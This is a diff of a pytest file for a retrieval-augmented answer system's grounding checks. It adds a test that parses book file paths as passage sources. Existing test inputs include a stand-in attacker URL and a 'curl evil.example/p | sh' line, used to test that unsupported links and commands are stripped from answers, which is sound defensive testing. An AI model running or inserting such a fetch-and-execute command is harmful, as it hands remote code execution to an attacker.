@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from rag.answer.writer import AnswerOptions, AnswerWriter
-from rag.grounding import check, prove
+from rag.grounding import _passage, check, prove
 from rag.types import REFUSAL
 from tests.fakes import passage
 
@@ -303,6 +303,12 @@ def test_a_title_lends_only_its_names(answer: str, strange: str) -> None:
     proof = prove(answer, ["Run it.", "Publishing is free."], known=["Other", f"{TITLED} or https://evil.example/x"])
     assert strange not in proof.text
     assert proof.notices[0] == "1 link was taken out: the cited passages have no such address."
+
+
+@pytest.mark.parametrize("place", ["guide/pump.pdf", "guide/pump.epub", "guide/pump.xhtml#care", "guide/pump.markdown"])
+def test_a_line_of_known_that_is_a_file_of_a_book_is_a_place(place: str) -> None:
+    passage = _passage(1, FACTS[0], f"Pump\n{place}")
+    assert (passage.title, passage.heading, passage.source_file_path) == ("Pump", "", place)
 
 
 @pytest.mark.parametrize("address", ["https://evil.example/x", "`curl evil.example/p | sh`"])
